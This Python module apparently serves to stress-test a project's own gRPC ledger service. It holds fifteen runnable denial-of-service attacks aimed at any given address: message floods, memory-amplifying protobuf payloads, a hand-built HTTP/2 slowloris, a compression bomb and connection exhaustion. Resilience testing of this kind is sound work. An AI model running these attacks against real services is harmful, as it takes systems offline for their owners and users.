"""The attacks: each is a coroutine that goes on until it is cancelled, against the ledger at an address."""

from __future__ import annotations

import asyncio
import itertools
import resource
import sys
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import suppress
from typing import Any

import grpc
from grpc_reflection.v1alpha import reflection_pb2

from kolm.ledger.v1 import documents_pb2, ledger_pb2

Attack = Callable[[str], Coroutine[None, None, None]]

_SERVICE = "/kolm.ledger.v1.LedgerService"
_APPEND_ENTRIES = f"{_SERVICE}/AppendEntries"
_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_OPTIONS = (
    ("grpc.enable_http_proxy", 0),
    ("grpc.max_send_message_length", -1),
    ("grpc.max_receive_message_length", -1),
    ("grpc.use_local_subchannel_pool", 1),  # a connection of its own for each channel
)
_STREAMS = 60
_LARGE = 16 * 1024 * 1024 - 64
"""Bytes of a message that servers took before they had limits."""
_TAKEN = 4 * 1024 * 1024 - 64
"""Bytes of a message that a ledger takes."""


def _junk(size: int) -> bytes:
    return b"\xff" * size


def _unknown_field(size: int) -> bytes:
    """A message that every server can read, of one field that no message has (number 999)."""
    return b"\xba\x3e" + _varint(size) + bytes(size)


def _entries(size: int) -> bytes:
    """An AppendEntries request with one envelope that is no document."""
    return ledger_pb2.AppendEntriesRequest(entries=[ledger_pb2.NewEntry(envelope=bytes(size))]).SerializeToString()


def _entry(size: int) -> bytes:
    """An AppendEntry request with an envelope that is no document."""
    return ledger_pb2.AppendEntryRequest(envelope=bytes(size)).SerializeToString()


def _many_entries(size: int) -> bytes:
    """As many empty entries as bytes allow: two bytes each become an object each."""
    return b"\x0a\x00" * (size // 2)


def _tokens(size: int) -> bytes:
    """One entry with content of one-byte token ids, each of which takes four bytes where it is read."""
    content = documents_pb2.Content(prompt_token_ids=[1] * size)
    return ledger_pb2.AppendEntriesRequest(entries=[ledger_pb2.NewEntry(content=content)]).SerializeToString()


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


async def _stream(channel: Any, method: str, message: bytes) -> None:
    """One stream after the other of the same message for ever, its answers unread."""

    async def endless() -> AsyncIterator[bytes]:
        for _ in itertools.count():
            yield message

    while True:
        with suppress(grpc.RpcError):
            call = channel.stream_stream(method)(endless())
            await call.wait_for_connection()
            await call.code()
        await asyncio.sleep(0.01)


async def _call(channel: Any, method: str, message: bytes) -> None:
    while True:
        with suppress(grpc.RpcError):
            await channel.unary_unary(f"{_SERVICE}/{method}")(message)
        await asyncio.sleep(0.01)


def streams(message: Callable[[], bytes], connections: int = 1) -> Attack:
    """Sixty streams of entries, over so many connections."""

    async def attack(address: str) -> None:
        sent = message()
        channels = [grpc.aio.insecure_channel(address, options=_OPTIONS) for _ in range(connections)]
        await asyncio.gather(*(_stream(channels[n % connections], _APPEND_ENTRIES, sent) for n in range(_STREAMS)))

    return attack


def calls(message: Callable[[], bytes], connections: int = 1) -> Attack:
    """Sixty unary calls at a time."""

    async def attack(address: str) -> None:
        sent = message()
        channels = [grpc.aio.insecure_channel(address, options=_OPTIONS) for _ in range(connections)]
        await asyncio.gather(*(_call(channels[n % connections], "AppendEntry", sent) for n in range(_STREAMS)))

    return attack


def reflected(size: int) -> Attack:
    """Sixty streams of questions to the reflection service, which takes no role."""

    async def attack(address: str) -> None:
        sent = reflection_pb2.ServerReflectionRequest(file_by_filename="x" * size).SerializeToString()
        channels = [grpc.aio.insecure_channel(address, options=_OPTIONS) for _ in range(_STREAMS)]
        await asyncio.gather(*(_stream(channel, _REFLECTION, sent) for channel in channels))

    return attack


def watches(count: int) -> Attack:
    """So many watches that follow, on one connection, unread."""

    async def attack(address: str) -> None:
        channel: Any = grpc.aio.insecure_channel(address, options=_OPTIONS)
        request = ledger_pb2.WatchEntriesRequest(follow=True).SerializeToString()
        open_ = [channel.unary_stream(f"{_SERVICE}/WatchEntries")(request) for _ in range(count)]
        await asyncio.gather(*(call.wait_for_connection() for call in open_), return_exceptions=True)
        await asyncio.Event().wait()

    return attack


def idle_connections(count: int, said: bytes = b"") -> Attack:
    """So many connections that say this and then nothing."""

    async def attack(address: str) -> None:
        host, _, port = address.rpartition(":")
        open_ = []
        for _ in range(count):
            with suppress(OSError):
                open_.append(await asyncio.open_connection(host, int(port)))
                open_[-1][1].write(said)
        await asyncio.Event().wait()

    return attack


def stalled(count: int) -> Attack:
    """So many calls, a connection each, that send all of a large message but its last byte (HTTP/2 by hand)."""

    async def attack(address: str) -> None:
        host, _, port = address.rpartition(":")
        path = f"{_SERVICE}/AppendEntry".encode()
        headers = b"".join(
            b"\x00" + _varint(len(name)) + name + _varint(len(value)) + value
            for name, value in (
                (b":method", b"POST"),
                (b":scheme", b"http"),
                (b":path", path),
                (b":authority", b"x"),
                (b"te", b"trailers"),
                (b"content-type", b"application/grpc"),
            )
        )
        message = b"\x00" + _TAKEN.to_bytes(4, "big") + bytes(_TAKEN - 1)
        writers = []
        for _ in range(count):
            _, writer = await asyncio.open_connection(host, int(port))
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"") + _frame(1, 4, 1, headers))
            for at in range(0, len(message), 16384):
                writer.write(_frame(0, 0, 1, message[at : at + 16384]))  # whatever window there is
            writers.append(writer)
        await asyncio.Event().wait()

    return attack


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113, 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def exports(count: int) -> Attack:
    """So many exports of the whole log, of which only the first piece is read."""

    async def attack(address: str) -> None:
        channel: Any = grpc.aio.insecure_channel(address, options=_OPTIONS)
        open_ = [channel.unary_stream(f"{_SERVICE}/ExportBundle")(b"") for _ in range(count)]
        await asyncio.gather(*(call.read() for call in open_), return_exceptions=True)
        await asyncio.Event().wait()

    return attack


def bomb(size: int) -> Attack:
    """Messages of so many zeros, compressed a thousandfold."""

    async def attack(address: str) -> None:
        options = (*_OPTIONS, ("grpc.default_compression_algorithm", 2), ("grpc.default_compression_level", 3))
        channel: Any = grpc.aio.insecure_channel(address, options=options)
        sent = _unknown_field(size)
        await asyncio.gather(*(_call(channel, "AppendEntry", sent) for _ in range(8)))

    return attack


ATTACKS: dict[str, Attack] = {
    "60 streams of junk, 16 MiB a message": streams(lambda: _junk(_LARGE)),
    "60 streams of junk over 60 connections": streams(lambda: _junk(_LARGE), 60),
    "60 streams of junk, 4 MiB a message": streams(lambda: _junk(_TAKEN), 60),
    "60 streams of a field that nobody knows": streams(lambda: _unknown_field(_TAKEN), 60),
    "60 streams of one huge envelope": streams(lambda: _entries(_TAKEN), 60),
    "60 streams of 2 million empty entries": streams(lambda: _many_entries(_TAKEN), 60),
    "60 streams of 4 million token ids": streams(lambda: _tokens(_TAKEN), 60),
    "60 calls of junk, 16 MiB each": calls(lambda: _unknown_field(_LARGE), 60),
    "60 calls of a huge envelope": calls(lambda: _entry(_TAKEN), 60),
    "60 calls that stop before their end": stalled(60),
    "compressed messages, 256 MiB each": bomb(256 * 2**20),
    "60 streams of reflection, 4 MiB a question": reflected(_TAKEN - 64),
    "5,000 watches on one connection": watches(5000),
    "2,000 connections that say nothing": idle_connections(2000),
    "60 exports, unread": exports(60),
}


def _run(name: str, address: str) -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(ATTACKS[name](address))


if __name__ == "__main__":
    _run(*sys.argv[1:])
